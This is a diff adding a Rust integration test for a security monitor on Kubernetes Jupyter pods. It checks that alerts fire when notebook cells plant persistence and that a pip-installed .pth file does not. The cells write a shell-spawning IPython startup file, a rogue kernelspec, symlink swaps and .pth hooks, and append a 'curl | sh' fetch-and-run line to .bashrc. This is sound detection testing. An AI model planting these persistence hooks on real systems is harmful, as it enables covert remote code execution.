@@ -1,0 +1,174 @@
+//! Persistence and drift in a real notebook pod (runc, uid 1000, a real Jupyter server whose
+//! sessions API starts the kernels): each persistence location written from a cell — plain
+//! write, rename into place, symlink swap — alerts at write time with the writer and the
+//! notebook; a `pip install` of a package that ships a `.pth` does not; the planted startup
+//! file runs at the next kernel start, and its exec is seen.
+
+use std::time::Duration;
+
+use guard_tests::{
+    fake_kube::FakeKube,
+    pod::{Driver, Pod},
+    *,
+};
+use serde_json::Value;
+
+const NOTEBOOK: &str = "work/plant.ipynb";
+
+/// Makes the directories a later cell writes into, then gives the agent time to watch them
+/// (what is written in the same instant as its directory is found, not seen as a rename).
+const PREPARE: &str = r#"import os, site, time
+home = os.path.expanduser('~')
+for d in ['.jupyter', '.local/share/jupyter/kernels/evil', '.ipython/profile_alt', site.getusersitepackages()]:
+    os.makedirs(os.path.join(home, d), exist_ok=True)
+time.sleep(1)
+print('ready')"#;
+
+const CELLS: &[&str] = &[
+    // 1: plain write of an IPython startup file (its directory made by the kernel's start).
+    r#"import os
+p = os.path.expanduser('~/.ipython/profile_default/startup/00-plant.py')
+open(p, 'w').write("import subprocess\nsubprocess.run(['/bin/sh', '-c', 'echo PLANTED-RAN'])\n")
+print('planted')"#,
+    // 2: rename into place (a kernelspec), written next to it first.
+    r#"import os
+d = os.path.expanduser('~/.local/share/jupyter/kernels/evil')
+open(d + '/.kernel.json.tmp', 'w').write('{"argv": ["/bin/sh", "-c", "id"], "display_name": "x", "language": "python"}')
+os.rename(d + '/.kernel.json.tmp', d + '/kernel.json')
+print('renamed')"#,
+    // 3: symlink swaps: a startup file that is a link, and a profile's startup directory
+    // replaced by a link to a directory elsewhere.
+    r#"import os
+os.makedirs('/tmp/evil-startup', exist_ok=True)
+open('/tmp/evil-startup/00-x.py', 'w').write('print(1)\n')
+os.symlink('/tmp/evil-startup/00-x.py', os.path.expanduser('~/.ipython/profile_default/startup/01-link.py'))
+os.symlink('/tmp/evil-startup', os.path.expanduser('~/.ipython/profile_alt/startup'))
+print('linked')"#,
+    // 4: a shell rc file and a .pth in the user's site-packages, by the kernel.
+    // (and one in the environment's site-packages, where pip's goes in cell 6)
+    r#"import os, site, sysconfig
+open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s http://198.51.100.7/x | sh\n')
+open(os.path.join(site.getusersitepackages(), 'evil.pth'), 'w').write('import os\n')
+open(os.path.join(sysconfig.get_path('purelib'), 'zz-kernel.pth'), 'w').write('import os\n')
+print('hooked')"#,
+    // 5: a Jupyter config file through a shell the kernel started.
+    r#"import subprocess, os
+subprocess.run(['/bin/sh', '-c', 'echo "c = 1" > ~/.jupyter/jupyter_server_config.py'])
+print('configured')"#,
+    // 6: pip installs a package that ships a .pth into the environment (the user owns it).
+    r#"import zipfile, subprocess, sys, base64, hashlib
+whl = '/tmp/pthpkg-1.0-py3-none-any.whl'
+files = {
+    'pthpkg.pth': b'import sys\n',
+    'pthpkg-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\nName: pthpkg\nVersion: 1.0\n',
+    'pthpkg-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
+}
+def rec(name, data):
+    h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
+    return f'{name},sha256={h},{len(data)}'
+record = '\n'.join([rec(n, d) for n, d in files.items()] + ['pthpkg-1.0.dist-info/RECORD,,']) + '\n'
+with zipfile.ZipFile(whl, 'w') as z:
+    for n, d in files.items():
+        z.writestr(n, d)
+    z.writestr('pthpkg-1.0.dist-info/RECORD', record)
+r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '--no-deps', '--quiet', whl], capture_output=True, text=True)
+print('pip', r.returncode, r.stderr.strip()[-300:])"#,
+];
+
+#[test]
+fn persistence_locations_alert_at_write_time_and_installs_do_not() {
+    privileged!();
+    let net = TestNet::new().unwrap();
+    let dir = TempDir::new("persist").unwrap();
+    let pod = Pod::new("jupyter-pat---4e5f6a7b", "pat", Driver::Systemd).unwrap();
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let api = rt.block_on(FakeKube::start(vec![pod.manifest()]));
+    let kc = dir.0.join("kubeconfig");
+    std::fs::write(&kc, api.kubeconfig()).unwrap();
+    let env = [("KUBECONFIG", kc.as_os_str()), ("NODE_NAME", std::ffi::OsStr::new("node-1"))];
+    let g = GuardProcess::start_env("discovery:\n  kubernetes:\n    enabled: true\n", &[], &env).unwrap();
+    pod.start(&net.notebook).unwrap();
+    let mut cells = vec![PREPARE];
+    cells.extend(CELLS);
+    let (_, r) = pod.run_cells(&net.notebook, NOTEBOOK, &cells).unwrap_or_else(|e| panic!("{e:#}"));
+    let out = |i: usize| r[i].stdout.trim().to_string();
+    for (i, want) in ["ready", "planted", "renamed", "linked", "hooked", "configured"].iter().enumerate() {
+        assert_eq!(&out(i), want, "cell {i}: {r:?}");
+    }
+    assert!(out(6).starts_with("pip 0"), "{r:?}");
+    assert!(pod.home.join(".ipython/profile_default/startup/00-plant.py").exists());
+    // The next kernel runs the planted startup file.
+    let (_, again) = pod.run_cells(&net.notebook, NOTEBOOK, &["print('second')"]).unwrap();
+    assert_eq!(again[0].stdout.trim(), "second", "{again:?}");
+    std::thread::sleep(Duration::from_millis(500));
+    let log = g.log();
+    let alerts = g.stop().unwrap();
+    let planted: Vec<&Value> = alerts
+        .iter()
+        .filter(|a| a["rule"] == "notebook.persistence" || a["rule"] == "notebook.persistence_known_writer")
+        .collect();
+    for a in &planted {
+        println!("{} | writer {}", a["output"].as_str().unwrap_or(""), field(a, "proc.cmdline"));
+    }
+    let find = |suffix: &str| {
+        planted
+            .iter()
+            .find(|a| field(a, "fd.name").as_str().is_some_and(|p| p.ends_with(suffix)))
+            .unwrap_or_else(|| panic!("no alert for {suffix}:\n{planted:#?}\n{log}"))
+    };
+    let home = "/home/jovyan";
+    for (suffix, kind, ops, writer) in [
+        (
+            "/.ipython/profile_default/startup/00-plant.py",
+            "ipython-startup",
+            &["create", "write"][..],
+            "ipykernel_launcher",
+        ),
+        ("/.local/share/jupyter/kernels/evil/kernel.json", "kernelspec", &["rename"][..], "ipykernel_launcher"),
+        ("/.ipython/profile_default/startup/01-link.py", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
+        ("/.ipython/profile_alt/startup", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
+        ("/.bashrc", "shell-rc", &["create", "write"][..], "ipykernel_launcher"),
+        ("/evil.pth", "site-hook", &["create", "write"][..], "ipykernel_launcher"),
+        (
+            "/opt/conda/lib/python3.11/site-packages/zz-kernel.pth",
+            "site-hook",
+            &["create", "write"][..],
+            "ipykernel_launcher",
+        ),
+        ("/.jupyter/jupyter_server_config.py", "jupyter-config", &["create", "write"][..], "echo"),
+    ] {
+        let a = find(suffix);
+        assert_eq!(a["rule"], "notebook.persistence", "{a:#}");
+        let path = field(a, "fd.name").as_str().unwrap();
+        assert!(path.starts_with(home) || path.starts_with("/opt/conda/"), "{a:#}");
+        assert_eq!(field(a, "guard.location"), kind, "{a:#}");
+        assert!(ops.contains(&field(a, "evt.type").as_str().unwrap()), "{suffix}: {a:#}");
+        assert_eq!(field(a, "k8s.pod.name"), pod.name.as_str(), "{a:#}");
+        assert_eq!(field(a, "jupyterhub.user"), "pat", "{a:#}");
+        assert!(field(a, "proc.pid").as_u64().is_some(), "the writer: {a:#}");
+        let lineage = field(a, "proc.lineage").to_string();
+        assert!(lineage.contains(writer), "{suffix}: writer {writer} not in {lineage}");
+        assert!(lineage.contains("ipykernel_launcher"), "{suffix}: the kernel above the writer: {lineage}");
+    }
+    assert_eq!(
+        field(find("/.ipython/profile_alt/startup"), "fs.path.target"),
+        "/tmp/evil-startup",
+        "the symlink swap names where it points"
+    );
+    assert!(
+        !planted.iter().any(|a| field(a, "fd.name").as_str().is_some_and(|p| p.ends_with("pthpkg.pth"))),
+        "pip installing a .pth is not persistence:\n{planted:#?}"
+    );
+    assert!(pod.upper.join("opt/conda/lib/python3.11/site-packages/pthpkg.pth").exists(), "pip installed the .pth");
+    // Only what the cells planted: the kernel's and the server's own files (profile, README,
+    // history, runtime, workspaces) raise nothing.
+    assert_eq!(planted.len(), 8, "{planted:#?}");
+    // The planted startup file ran in the next kernel, and what it ran was seen.
+    assert!(
+        alerts.iter().any(|a| a["rule"] == "notebook.non_python_exec"
+            && field(a, "proc.cmdline") == "/bin/sh -c echo PLANTED-RAN"
+            && field(a, "k8s.pod.name") == pod.name.as_str()),
+        "the startup file's exec at the next kernel start:\n{alerts:#?}"
+    );
+    drop(pod);
+}
